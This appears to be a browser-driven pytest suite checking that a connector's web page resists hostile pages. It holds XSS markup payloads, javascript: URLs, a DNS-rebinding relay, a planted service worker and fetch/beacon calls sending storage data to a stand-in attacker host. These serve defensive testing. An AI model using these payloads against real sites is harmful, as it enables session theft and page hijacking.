# SPDX-License-Identifier: ISC
"""The connector's page against web pages that mean it harm, in a real Chromium, with the real
connector behind it.

Why a browser: which requests a foreign page can make one send, with which fields, and what it may
read of the answers, is the browser's doing; tests/process/test_web_page.py knows only what we
believe of that.  The attackers are told what they could not know: a token that is good, and a
secret that has not been used.  When they are done, both still are, and nothing was changed.

What another user of the host may do without a browser is in tests/system/test_page_guards.py.
"""

import contextlib
import json
import os
import socket
import threading

import pytest
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.keys import Keys

from tests.system import page_machine

HERE = os.path.dirname(os.path.abspath(__file__))
FOREIGN, REBOUND = "evil.test", "rebound.test"
REBOUND_ADDRESS = "127.0.0.2"
# Where the page keeps who is signed in.
TOKEN = "sessionStorage.getItem('adconnector.token')"
MARKUP = "<img src=x onerror='window.hit=1'><script>window.hit=1</script>"
HOSTILE = {
    "markup": MARKUP + "\"'><svg onload=window.hit=1></textarea></title>" + MARKUP + "&lt;b&gt;&#x3c;i&#x3e;{{7*7}}${7*7}",
    "address": "javascript:window.hit=1//data:text/html," + MARKUP,
    "marks": "\u202egnp.exe\u2066\u2069\u200f__proto__\u0007\u001b[31m\u2028",
    "long": "x" * 20000}

# Answers for the page, for as long as the browser keeps it.
WORKER = """
    self.addEventListener("install", () => self.skipWaiting());
    self.addEventListener("fetch", (event) => {
        if (event.request.mode === "navigate")
            event.respondWith(new Response("planted", { headers: { "Content-Type": "text/html" } }));
    });"""

with open(os.path.join(HERE, "page_attacks.js"), encoding="utf-8") as _file:
    ATTACKS = _file.read()


class Site:
    """A server that is not ours; it says one page, and remembers what it was asked.

    lead_to() makes of it a mere line to somebody else: that is how a name looks that first
    led to the attacker and now leads to the connector (DNS rebinding).
    """

    def __init__(self, address="127.0.0.1", port=0):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.listener = socket.create_server((address, port), family=family, backlog=256)
        self.port = self.listener.getsockname()[1]
        self.heads, self.open, self.target = [], set(), None
        threading.Thread(target=self._accept, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        # Closing alone does not wake who waits in accept().
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self._cut()

    def lead_to(self, host, port):
        self.target = host, port
        self._cut()

    def _cut(self):
        for client in list(self.open):
            with contextlib.suppress(OSError):
                client.shutdown(socket.SHUT_RDWR)

    def _accept(self):
        with contextlib.suppress(OSError):
            while True:
                client = self.listener.accept()[0]
                threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client):
        self.open.add(client)
        with client, contextlib.suppress(OSError):
            if self.target is None:
                self._answer(client)
            else:
                self._pass(client)
        self.open.discard(client)

    def _answer(self, client):
        head = b""
        while b"\r\n\r\n" not in head:
            part = client.recv(65536)
            if not part:
                return
            head += part
        self.heads.append(head.decode("latin-1"))
        kind, body = b"text/html", b"<!doctype html><title>a page</title><body>nothing to see</body>"
        if head.startswith(b"GET /worker.js "):
            kind, body = b"text/javascript", WORKER.encode()
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nConnection: close\r\nCache-Control: no-store\r\n"
                       b"Content-Length: %d\r\n\r\n%s" % (kind, len(body), body))

    def _pass(self, client):
        with socket.create_connection(self.target, 20) as other:
            def back():
                with contextlib.suppress(OSError):
                    while part := other.recv(65536):
                        client.sendall(part)
                with contextlib.suppress(OSError):
                    client.shutdown(socket.SHUT_RDWR)
            thread = threading.Thread(target=back, daemon=True)
            thread.start()
            with contextlib.suppress(OSError):
                while part := client.recv(65536):
                    other.sendall(part)
            with contextlib.suppress(OSError):
                other.shutdown(socket.SHUT_WR)
            thread.join()


@pytest.fixture(scope="module")
def machine(installed):
    with page_machine.start() as made:
        yield made


@pytest.fixture(scope="module")
def site():
    with Site() as made:
        yield made


@pytest.fixture(scope="module")
def victim(chromium):
    """A browser whose names lead here; `chromium` is another one, with a profile of its own."""
    from .chromium import Browser
    made = Browser(f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1,MAP {REBOUND} {REBOUND_ADDRESS}")
    yield made
    made.close()


@pytest.fixture
def tab(victim):
    """One tab, at nothing."""
    yield victim
    only_tab(victim)


def only_tab(browser):
    """Windows that an attack has opened go; the first one stays."""
    first, *others = browser.driver.window_handles
    for other in others:
        browser.driver.switch_to.window(other)
        browser.driver.close()
    browser.driver.switch_to.window(first)
    browser.leave()


def evaluate(browser, expression):
    """What it comes to in the page's own world, under the page's own policy, with a click behind it."""
    answer = browser.cdp("Runtime.evaluate", expression=expression, awaitPromise=True,
                         returnByValue=True, userGesture=True, allowUnsafeEvalBlockedByCSP=False)
    if "exceptionDetails" in answer:
        raise AssertionError(answer["exceptionDetails"])
    return answer["result"].get("value")


def sign_in(browser, machine):
    """The token, which stands in this tab."""
    browser.open(machine.link())
    browser.wait_shown("#panels")
    return browser.script("return sessionStorage.getItem('adconnector.token')")


def live(machine, token):
    return page_machine.ask(machine.host, "GET", "/settings", token=token)[0] == 200


@contextlib.contextmanager
def at_port(machine, site, tab):
    tab.open(f"http://127.0.0.1:{site.port}/")
    yield f"http://{machine.host}"


@contextlib.contextmanager
def at_name(machine, site, tab):
    tab.open(f"http://{FOREIGN}:{site.port}/")
    yield f"http://{machine.host}"


@contextlib.contextmanager
def at_localhost(machine, site, tab):
    """Which leads to the connector as well: its own files, had it been asked for by this name."""
    tab.open(f"http://localhost:{site.port}/")
    yield f"http://localhost:{machine.port}"


@contextlib.contextmanager
def rebound(machine, site, tab):
    """Its origin is the attacker's name with our port, and it leads to the connector."""
    with Site(REBOUND_ADDRESS, machine.port) as front:
        tab.open(f"http://{REBOUND}:{machine.port}/")
        assert "nothing to see" in tab.text("body")
        front.lead_to("127.0.0.1", machine.port)
        yield f"http://{REBOUND}:{machine.port}"
        # It does lead there.
        assert tab.script("return fetch('/').then((a) => a.text())").startswith('{"error":')
        tab.leave()


ATTACK_NAMES = ["fetches", "beacons", "inclusions", "sockets", "forms", "frames", "windows", "storage"]


@pytest.mark.parametrize("place", [at_port, at_name, at_localhost, rebound],
                         ids=lambda place: place.__name__)
def test_a_foreign_page(machine, site, tab, place):
    """All of page_attacks.js; while the connector's own page is signed in in the next tab."""
    token = sign_in(tab, machine)
    own = tab.driver.current_window_handle
    secret = machine.secret()
    tab.driver.switch_to.new_window("tab")
    with machine.unchanged():
        with place(machine, site, tab) as page:
            given = json.dumps({"page": page, "token": token, "secret": secret})
            for name in ATTACK_NAMES:
                found = evaluate(tab, f"(() => {{ {ATTACKS}; return {name}({given}); }})()")
                assert found == [], (name, found)
                if name in ("forms", "frames"):
                    assert not shown_in_frames(tab), name
                    tab.script("document.body.replaceChildren()")
            for handle in set(tab.driver.window_handles) - {own}:
                tab.driver.switch_to.window(handle)
                assert not tab.elements("#save, #sign-in"), tab.driver.current_url
                assert tab.script(f"return location.origin === arguments[0] ? {TOKEN} : null",
                                  f"http://{machine.host}") is None
        # Neither was the session ended nor the secret traded.
        assert live(machine, token)
        assert machine.trade(secret)[0] == 201
    tab.driver.switch_to.window(own)
    assert tab.shown("#panels") and not tab.shown("#sign-in")


@pytest.mark.parametrize("name", ["fetches", "beacons", "inclusions", "frames"])
def test_an_attack_finds_what_is_open(site, tab, name):
    """Against the attacker's own pages, which keep nobody out: so its silence means something."""
    tab.open(f"http://127.0.0.1:{site.port}/")
    given = json.dumps({"page": f"http://127.0.0.1:{site.port}", "token": "t" * 43, "secret": "s" * 43})
    assert evaluate(tab, f"(() => {{ {ATTACKS}; return {name}({given}); }})()") != []


def shown_in_frames(tab):
    """Is the page in one of the frames of this one, whoever may read it?"""
    found = 0
    for frame in tab.elements("iframe, object, embed"):
        with contextlib.suppress(WebDriverException):
            tab.driver.switch_to.frame(frame)
            found += len(tab.elements("#save, #sign-in, #panels"))
        tab.driver.switch_to.parent_frame()
    return found


def test_frames_of_our_own_make(machine, tab):
    """Not even of its own origin: what got into the page could frame it."""
    sign_in(tab, machine)
    evaluate(tab, """new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.src = "/";
        frame.onload = frame.onerror = done;
        setTimeout(done, 5000);
        document.body.append(frame);
    })""")
    assert not shown_in_frames(tab)


# --- names ----------------------------------------------------------------------------------------


def names_of(machine):
    port = machine.port
    return [f"localhost:{port}", f"LOCALHOST:{port}", f"x.localhost:{port}", f"0.0.0.0:{port}",
            f"{FOREIGN}:{port}", f"[::ffff:127.0.0.1]:{port}"]


def test_no_name_but_the_number(machine, tab):
    """By any other name there is no page, and the address that was made is still good.

    A session that began at `localhost` would be in the hands of whoever listens at the other of that name's
    two addresses, at our port.
    """
    secret = machine.secret()
    for name in names_of(machine):
        with contextlib.suppress(WebDriverException):  # Chromium itself goes to some no more
            tab.open(f"http://{name}/#{secret}")
        assert not tab.elements("#sign-in, #panels"), name
    # Each way to write the number is the same name to a browser.
    for name in ("127.1", "2130706433", "0x7f.0.0.1"):
        tab.open(f"http://{name}:{machine.port}/")
        assert tab.script("return location.host") == machine.host
        tab.wait_shown("#sign-in")
    assert machine.trade(secret)[0] == 201


def test_a_worker_from_the_time_when_the_port_was_anothers(machine, chromium, tab):
    """A known limit, and what is done about it. Whoever listened at our port while the daemon did not
    run, and was visited there, may have left a worker in that browser that answers in our place.
    Nothing that the connector sends comes before it; a browser without that past, such as a private
    window, has the true page."""
    connector = machine.stack.add_connector()
    port = int(connector.settings["web"]["listen"].rsplit(":", 1)[1])
    connector.stop()
    with Site("127.0.0.1", port):
        tab.open(f"http://127.0.0.1:{port}/")
        assert evaluate(tab, """navigator.serviceWorker.register("/worker.js")
            .then(() => navigator.serviceWorker.ready).then(() => true)""")
        tab.leave()
    connector.start()
    tab.open(f"http://127.0.0.1:{port}/")
    assert tab.text("body") == "planted"
    chromium.open(connector.ctl("web", check=0).json["url"])
    chromium.wait_shown("#panels")
    chromium.leave()
    connector.stop()
    machine.stack.connectors.remove(connector)


# --- the one-time URL and the token --------------------------------------------------------------------


def test_a_sign_in_url_leaves_no_trace(machine, site, tab):
    """Not in the address, the history, a referrer, the storage of others, a log or a file."""
    url = machine.link()
    secret = url.split("#")[1]
    tab.open(url)
    tab.wait_shown("#panels")
    token = tab.script(f"return {TOKEN}")
    assert tab.driver.current_url == f"http://{machine.host}/"
    history = [entry["url"] for entry in tab.cdp("Page.getNavigationHistory")["entries"]]
    assert not any(secret in one or token in one for one in history), history
    asked = tab.script("return performance.getEntriesByType('resource').map((one) => one.name)")
    assert asked and not any(secret in one or token in one for one in asked)
    assert tab.script("return [document.cookie, localStorage.length, window.name]") == ["", 0, ""]
    tab.script("location.href = arguments[0]", f"http://{FOREIGN}:{site.port}/collect")
    tab.wait(lambda: "nothing to see" in tab.text("body"), "the other site does not come")
    assert evaluate(tab, f"(() => {{ {ATTACKS}; return storage(); }})()") == []
    heads = [head for head in site.heads if head.startswith("GET /collect ")]
    assert heads and not any("referer:" in head.lower() for head in heads)
    assert not any(secret in head or token in head for head in site.heads)
    tab.driver.back()
    tab.wait_shown("#panels")  # whose tab it is goes on
    assert live(machine, token)
    kept = [machine.connector.log(), machine.stack.hub.log()]
    for below, _, names in os.walk(machine.stack.folder):
        for name in names:
            with contextlib.suppress(OSError), open(os.path.join(below, name), "rb") as file:
                kept.append(file.read().decode("latin-1"))
    for pid in machine.connector.pids().values():
        for name in ("cmdline", "environ"):
            with open(f"/proc/{pid}/{name}", "rb") as file:
                kept.append(file.read().decode("latin-1"))
    assert not any(text in one for one in kept for text in (secret, token))


def test_a_sign_in_url_that_is_opened_again(machine, chromium, tab):
    """In a second tab, by going back, by reloading, in another profile: it was good once."""
    url = machine.link()
    tab.open(url)
    tab.wait_shown("#panels")
    token = tab.script(f"return {TOKEN}")
    first = tab.driver.current_window_handle
    tab.driver.switch_to.new_window("tab")
    for other in (tab, chromium):
        other.open(url)
        other.wait_text("#sign-in-error", "not accepted")
        assert not other.shown("#panels")
        assert other.script(f"return {TOKEN}") is None
    chromium.leave()
    tab.driver.switch_to.window(first)
    tab.driver.refresh()
    tab.wait_shown("#panels")
    assert live(machine, token)


def test_a_token_that_is_not_of_this_tab(machine, tab):
    """A new tab has none; one of a session that has ended, or that never was, opens nothing."""
    token = sign_in(tab, machine)
    tab.driver.switch_to.new_window("tab")
    tab.open(f"http://{machine.host}/")
    tab.wait_shown("#sign-in")
    assert tab.script(f"return {TOKEN}") is None and not tab.shown("#panels")
    ended = machine.sign_in()
    assert ended.delete("/session").status == 200
    for other in (ended.token, "A" * 43, token[:-1] + ("A" if token[-1] != "A" else "E"), MARKUP):
        tab.script("sessionStorage.setItem('adconnector.token', arguments[0])", other)
        tab.driver.refresh()
        tab.wait_text("#sign-in-why", "session has ended")
        assert tab.script(f"return {TOKEN}") is None
        assert tab.value("#base") == "" and tab.text("#log-lines") == ""
    assert live(machine, token)


# --- what gets into the page all the same ------------------------------------------------------------------


SINKS = {
    "markup": f"document.body.innerHTML = {json.dumps(MARKUP)}",
    "more markup": f"document.body.insertAdjacentHTML('beforeend', {json.dumps(MARKUP)})",
    "written": f"document.write({json.dumps(MARKUP)})",
    "eval": "eval('window.hit = 1')",
    "Function": "new Function('window.hit = 1')()",
    "timer": "setTimeout('window.hit = 1', 0)",
    "parsed": f"document.body.append(...new DOMParser().parseFromString({json.dumps(MARKUP)}, "
              "'text/html').body.children)",
    "policy": "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
    "srcdoc": "document.createElement('iframe').srcdoc = '<p>'",
    "script": "const s = document.createElement('script'); s.text = 'window.hit = 1'; "
              "document.body.append(s)",
    "source": "const s = document.createElement('script'); s.src = ELSEWHERE + 'x.js'; "
              "document.body.append(s)",
    "handler": "document.body.setAttribute('onclick', 'window.hit = 1')",
}
QUIET = {
    "href": "const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; "
            "document.body.append(a); a.click()",
    "image": "new Image().src = ELSEWHERE + 'i'",
    "fetch": "fetch(ELSEWHERE + 'f', { mode: 'no-cors', method: 'POST', body: sessionStorage.length }).catch(() => {})",
    "beacon": "navigator.sendBeacon(ELSEWHERE + 'b', 'x')",
    "socket": "try { new WebSocket(ELSEWHERE.replace('http', 'ws') + 'w') } catch {}",
    "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ELSEWHERE + 's'; "
             "document.head.append(l)",
    "form": "const f = document.createElement('form'); f.action = ELSEWHERE + 'form'; f.method = 'post'; "
            "document.body.append(f); f.submit()",
    "base": "const b = document.createElement('base'); b.href = ELSEWHERE; document.head.append(b)",
    "frame": "const i = document.createElement('iframe'); i.src = ELSEWHERE + 'frame'; document.body.append(i)",
    "worker": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "data frame": "const i = document.createElement('iframe'); i.src = 'data:text/html,x'; document.body.append(i)",
}


def test_what_the_policy_holds_back(machine, site, tab):
    """Were there a mistake in the page's code: text becomes no code, and nothing goes elsewhere."""
    sign_in(tab, machine)
    elsewhere = f"http://127.0.0.1:{site.port}/out/"
    before = f"const ELSEWHERE = {json.dumps(elsewhere)};"
    for name, code in SINKS.items():
        said = evaluate(tab, f"(() => {{ {before} try {{ {code} }} catch (e) {{ return e.name }} }})()")
        assert said in ("TypeError", "EvalError"), (name, said)
    for code in QUIET.values():
        evaluate(tab, f"(() => {{ {before} {code} }})()")
    # What was let through has begun; a page from there, asked for behind it, comes last.
    own = tab.driver.current_window_handle
    tab.driver.switch_to.new_window("tab")
    tab.open(f"http://127.0.0.1:{site.port}/last")
    assert any(head.startswith("GET /last ") for head in site.heads)
    tab.driver.switch_to.window(own)
    assert tab.script("return [window.hit === undefined, location.origin, document.baseURI]") == [
        True, f"http://{machine.host}", f"http://{machine.host}/"]
    assert not [head for head in site.heads if "/out/" in head]
    assert tab.shown("#panels")


def test_a_directory_that_sends_markup(machine, tab):
    """From AD over the connector's own processes into the page, and from the log."""
    alice = machine.server.people["alice"]
    before = alice.dn
    sign_in(tab, machine)
    try:
        alice.dn = f"CN={MARKUP.replace('=', chr(92) + '=')},OU=People,{machine.server.base}"
        tab.tab("people")
        for name in ("alice", MARKUP, "\u202eecila", "javascript:alert(1)"):
            tab.paste("#username", name)
            tab.script("document.querySelector('#explain').requestSubmit()")
            tab.wait_shown("#explain-result", 30)
            tab.wait_gone("#explain-wait", 30)
            if name == "alice":
                assert "onerror" in tab.text("#explain-steps")
    finally:
        alice.dn = before
    clean(tab)


def clean(tab):
    """Nothing of what came is anything but text."""
    assert tab.script("return window.hit === undefined")
    assert tab.script("""return [...document.querySelectorAll("body *")].filter((node) =>
        ["IMG", "SCRIPT", "IFRAME", "OBJECT", "EMBED", "BASE", "FORM", "svg"].includes(node.nodeName)
            && node.closest("#panels dd, #panels td, #panels th, #log-lines, #trouble, .error, .note, "
                + "#explain-steps, #explain-result, #test-steps, #test-result, #setup-result") !== null
        || [...node.attributes].some((one) => one.name.startsWith("on")
            || /^\\s*(javascript|data):/i.test(one.value) && ["href", "src", "action"].includes(one.name))
        ).map((node) => node.outerHTML.slice(0, 200))""") == []


# What makes the window scroll sideways.
WIDER = """
    if (document.documentElement.scrollWidth <= innerWidth)
        return [];
    return [...document.querySelectorAll("body *")]
        .filter((node) => node.scrollWidth > node.clientWidth && getComputedStyle(node).overflowX === "visible"
            && node.clientWidth > 1)
        .map((node) => `${node.nodeName}#${node.id}.${node.className}`)"""


def hostile(value, text):
    """The same document with this text in place of each one that is words, names or figures of speech."""
    keep = ("state", "code", "status", "type", "key", "origin", "level", "password")
    if isinstance(value, dict):
        return {key: each if key in keep else hostile(each, text) for key, each in value.items()}
    if isinstance(value, list):
        return [hostile(each, text) for each in value]
    return text if isinstance(value, str) else value


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_whatever_comes_is_shown_as_text(tab, play, text):
    """From hub, directory, settings, log, tests and errors, in every place that shows some."""
    mock = play("failing")
    status = mock.status
    mock.status = lambda full: hostile(status(full), text)
    mock.settings = [dict(one, locked=text) if one["key"] == "directory.tls.name" else
                     dict(one, value=text) if one["type"] in ("string", "list") and "choices" not in one
                     else one for one in mock.settings]
    mock.steps = hostile(mock.steps, text)
    for step, name in zip(mock.steps, ("reach", "tunnel", "sign_in", "read")):
        step["name"] = name
        step["hint"] = f"set directory.server: {text}"
    mock.explained, mock.explain_end = hostile(mock.explained, text), hostile(mock.explain_end, text)
    mock.say("error", text[:200], text)
    tab.open(mock.link())
    tab.wait_shown("#panels")
    content = "return document.querySelector(arguments[0]).textContent.includes(arguments[1])"
    tab.wait(lambda: tab.value("#base") != "", "no settings come")
    tab.script("document.querySelector('#test').click()")
    tab.wait_shown("#test-result", 30)
    assert tab.script(content, "#test-steps", text)
    for name, place in (("status", "#trouble"), ("status", "#tunnel-facts"), ("log", "#log-lines")):
        tab.tab(name)
        tab.wait(lambda p=place: tab.script(content, p, text), f"{place} does not say it", 30)
    tab.tab("people")
    tab.paste("#username", text)
    tab.press(Keys.ENTER)
    tab.script("document.querySelector('#explain').requestSubmit()")
    tab.wait_shown("#explain-result", 30)
    assert tab.script(content, "#explain-result", text)
    mock.refuse["settings"] = 422, {"code": text, "message": text, "key": "directory.base"}
    tab.tab("setup")
    tab.paste("#user", "CORP\\other")
    tab.script("document.querySelector('#setup').requestSubmit()")
    tab.wait_shown("#setup-result", 30)
    clean(tab)
    for width in (1280, 320):
        tab.size(width, 900)
        for name in ("setup", "status", "people", "log"):
            tab.tab(name)
            assert tab.script(WIDER) == [], (name, width)
    tab.size(1280, 900)
